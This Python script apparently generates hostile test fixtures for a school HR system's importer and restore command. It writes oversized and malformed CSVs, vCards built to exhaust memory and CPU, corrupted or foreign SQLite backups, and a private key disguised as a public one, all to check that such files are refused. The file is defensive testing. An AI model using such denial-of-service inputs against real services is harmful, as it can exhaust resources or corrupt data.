    beyond = {**entry_record(uid("rule-version"), person, 2), "rule_version": 2**64}
    written.append(
        write_pack(
            folder / "pack_id_beyond_int64.zip",
            "data",
            {"contacts": [contact], "reward_entries": [beyond]},
        )
    )
    run: dict[str, Any] = {
        "uuid": uid("run"),
        "template_id": "chiayi-usage-report",
        "template_data": {"bogus": 1},
        "title": "人事資訊系統使用情形填報表",
        "period": "115 學年度",
        "person": "",
        "due_date": None,
        "completed_at": None,
        "origin": SENDER["site_uuid"],
        "created_at": STAMP,
        "updated_at": STAMP,
        "answers": [],
    }
    written.append(
        write_pack(
            folder / "pack_checklist_bogus_template_data.zip", "data", {"checklist_runs": [run]}
        )
    )
    content = {"faq": [faq_record("limits-entry", "休假可以分次請嗎？", "可以，依規定辦理。" * 3)]}
    written.append(
        write_pack(
            folder / "pack_content_bad_created_at.zip",
            "content",
            content,
            key=key,
            content_version=5,
            created_at="昨天下午",
        )
    )
    written.append(
        write_pack(
            folder / "pack_content_version_huge.zip",
            "content",
            content,
            key=key,
            content_version=10**19,
        )
    )
    return written


# ---------------------------------------------------------------------------------------------
# CSV, vCard, backups and keys that are large or binary


def _text_files(folder: Path, rng: random.Random) -> None:
    (folder / "csv_binary_garbage.csv").write_bytes(bytes([0xFF, 0xFE ^ 1]) + rng.randbytes(4096))
    rows = "".join(f"人員{n},桃源國小\r\n" for n in range(50_001))
    (folder / "csv_rows_over_limit.csv").write_text("姓名,服務學校\r\n" + rows, encoding="utf-8")
    # 19 MB of line breaks: 19 million empty records, once kept as a list (30 s, 3 GB)
    (folder / "csv_19_million_line_breaks.csv").write_bytes(
        "姓名\r\n王小明\r\n".encode() + b"\n" * 19_000_000
    )
    for name in ("csv_over_20_mb.csv", "vcf_over_20_mb.vcf"):
        with (folder / name).open("wb") as handle:
            handle.truncate(20 * 1024 * 1024 + 1)  # sparse: no disk space used

    photo = base64.b64encode(rng.randbytes(768 * 1024)).decode()  # 1 MB once encoded
    folded = "\r\n ".join(photo[i : i + 74] for i in range(0, len(photo), 74))
    (folder / "vcf_photo_1mb.vcf").write_text(
        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:王小明\r\nN:王;小明;;;\r\n"
        f"PHOTO;ENCODING=b;TYPE=JPEG:{folded}\r\nTEL;TYPE=CELL:0912345678\r\nEND:VCARD\r\n",
        encoding="utf-8",
        newline="",
    )
    name = "王" * 200_000
    folded = "\r\n ".join(name[i : i + 1] for i in range(len(name)))
    (folder / "vcf_folded_200000_times.vcf").write_text(
        f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:{folded}\r\nEND:VCARD\r\n", encoding="utf-8", newline=""
    )
    parameters = ";".join(f"X-P{n}=a" for n in range(500_000))
    (folder / "vcf_500000_parameters.vcf").write_text(
        f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:王小明\r\nNOTE;{parameters}:x\r\nEND:VCARD\r\n"
        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:林怡君\r\nEND:VCARD\r\n",
        encoding="utf-8",
        newline="",
    )

    def cards(count: int) -> str:
        return "".join(
            f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:人員{n}\r\nORG:桃源國小\r\n"
            f"EMAIL:user{n}@school.tw\r\nEND:VCARD\r\n"
            for n in range(count)
        )

    (folder / "vcf_1000_cards.vcf").write_text(cards(1000), encoding="utf-8", newline="")
    (folder / "vcf_over_card_limit.vcf").write_text(cards(5001), encoding="utf-8", newline="")


def _database_files(folder: Path, template: Path, rng: random.Random) -> None:
    """Files given to ``schoolhr restore`` that must be refused: made from a real database,
    and two that are no database at all (generated too: no file named like a database is kept
    in the repository)."""
    (folder / "restore_empty.sqlite3").write_bytes(b"")
    (folder / "restore_not_sqlite.sqlite3").write_text("這不是資料庫備份檔。\n", encoding="utf-8")
    flipped = folder / "restore_flipped_bytes.sqlite3"
    shutil.copyfile(template, flipped)
    data = bytearray(flipped.read_bytes())
    page = 4096
    for number in rng.sample(range(1, len(data) // page), min(4, len(data) // page - 1)):
        for offset in range(number * page, number * page + 64):
            data[offset] = rng.randrange(256)
    flipped.write_bytes(bytes(data))
    full = template.read_bytes()
    (folder / "restore_truncated.sqlite3").write_bytes(full[: len(full) // 3])
    newer = folder / "restore_newer_schema.sqlite3"
    shutil.copyfile(template, newer)
    connection = sqlite3.connect(newer)
    with connection:
        connection.execute("UPDATE alembic_version SET version_num = '9999_from_the_future'")
    connection.close()
    foreign = folder / "restore_foreign_sqlite.sqlite3"
    connection = sqlite3.connect(foreign)
    with connection:
        connection.execute("CREATE TABLE songs (title TEXT)")
        connection.execute("INSERT INTO songs VALUES ('not a SchoolHR database')")
    connection.close()
    _restore_candidates(folder, template)


WAL_SITE_NAME = "只在記錄檔裡的校名"
"""The site name written only to the -wal beside ``restore_live_copy_with_wal.sqlite3``."""
PAGE_SIZE_SITE_NAME = "六十四K頁面國小"


def sqlite_edit(path: Path, *statements: str) -> Path:
    """Run ``statements`` on ``path`` and leave it one self-contained file (no -wal)."""
    connection = sqlite3.connect(path, isolation_level=None)
    try:
        for statement in statements:
            connection.execute(statement)
        connection.execute("PRAGMA journal_mode=DELETE")
    finally:
        connection.close()
    return path


def _restore_candidates(folder: Path, template: Path) -> None:
    """Files given to restore that look like backups: another program's SQLite file stamped
    with our schema revision (head and an old one), a backup without its contact table,
    another program's application_id, 64 KiB pages, the first schema, and a live database
    copied with its -wal (``restore_live_copy_with_wal.sqlite3-wal`` beside it, holding the
    last writes; ``generate`` lists only the database, the -wal goes with it)."""
    from tempfile import TemporaryDirectory

    for name, revision in (("our", migrate.head_revision()), ("old", "0005_guides")):
        sqlite_edit(
            folder / f"restore_foreign_with_{name}_revision.sqlite3",
            "CREATE TABLE songs (id INTEGER PRIMARY KEY, title TEXT NOT NULL)",
            "INSERT INTO songs (title) VALUES ('not a SchoolHR database')",
            "CREATE TABLE alembic_version (version_num VARCHAR(32) NOT NULL PRIMARY KEY)",
            f"INSERT INTO alembic_version VALUES ('{revision}')",
        )
    missing = folder / "restore_missing_contact_table.sqlite3"
    shutil.copyfile(template, missing)
    sqlite_edit(missing, "PRAGMA foreign_keys=OFF", "DROP TABLE contact")
    other = folder / "restore_other_application_id.sqlite3"
    shutil.copyfile(template, other)
    sqlite_edit(other, "PRAGMA application_id = 305419896")  # 0x12345678
    big_pages = folder / "restore_page_size_65536.sqlite3"
    shutil.copyfile(template, big_pages)
    sqlite_edit(
        big_pages,
        "PRAGMA journal_mode=DELETE",
        "PRAGMA page_size = 65536",
        "VACUUM",
        f"UPDATE site SET name = '{PAGE_SIZE_SITE_NAME}'",
    )
    shutil.copyfile(HERE.parent / "schema_0001.sqlite3.bin", folder / "restore_schema_0001.sqlite3")
    copied = folder / "restore_live_copy_with_wal.sqlite3"
    with TemporaryDirectory() as scratch:
        live = Path(scratch) / "schoolhr.sqlite3"
        shutil.copyfile(template, live)
        writer = sqlite3.connect(live, isolation_level=None)
        try:  # written while open: the last writes are only in the -wal when it is copied
            writer.execute("PRAGMA journal_mode=WAL")
            writer.execute("PRAGMA wal_autocheckpoint=0")
            writer.execute(f"UPDATE site SET name = '{WAL_SITE_NAME}'")
            shutil.copyfile(live, copied)
            shutil.copyfile(f"{live}-wal", f"{copied}-wal")
        finally:
            writer.close()


def _key_files(folder: Path) -> None:
    rsa_key = rsa.generate_private_key(public_exponent=65537, key_size=1024)
    (folder / "key_rsa.pub.pem").write_bytes(
        rsa_key.public_key().public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )
    )
    throwaway = Ed25519PrivateKey.generate()  # its private half given as if it were public
    (folder / "key_private_given_as_public.pem").write_bytes(
        throwaway.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )


def generate(folder: Path, key: Ed25519PrivateKey, template: Path | None = None) -> list[Path]:
    """Write every generated hostile file into ``folder``; content packs are signed with
    the county ``key``, data packs with ``SENDER_KEY`` (the school's own key). ``template``
    (a SchoolHR database) is the raw material of the restore files, which are left out
    without it. Returns the files written, but for a -wal beside a database (it goes with it)."""
    folder.mkdir(parents=True, exist_ok=True)
    rng = random.Random(SEED)
    _xlsx_files(folder, rng)
    _pack_files(folder, key, rng)
    limit_packs(folder, key)
    _text_files(folder, rng)
    _key_files(folder)
    if template is not None:
        _database_files(folder, template, rng)
    return sorted(p for p in folder.iterdir() if not p.name.endswith("-wal"))


def committed() -> list[Path]:
    """The small hostile files kept in the repository beside this script."""
    return sorted(
        p
        for p in HERE.iterdir()
        if p.is_file() and p.name not in {"README.md", Path(__file__).name}
    )


def main() -> int:
    if len(sys.argv) != 2:
        print(__doc__)
        return 2
    from tempfile import TemporaryDirectory

    from schoolhr.paths import prepare_data_dir
    from schoolhr.store.database import open_store

    folder = Path(sys.argv[1])
    key = Ed25519PrivateKey.generate()
    with TemporaryDirectory() as scratch:
        paths = prepare_data_dir(Path(scratch))
        open_store(paths, daily_backup=False).close()  # the raw material of the restore files
        written = generate(folder, key, paths.database)
    (folder / "county.pub.pem").write_bytes(signing.public_pem(key.public_key()))
    print(
        f"{len(written)} files written to {folder} (trust county.pub.pem at a school to import "
        "the content packs; import the data packs at a county)"
    )
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
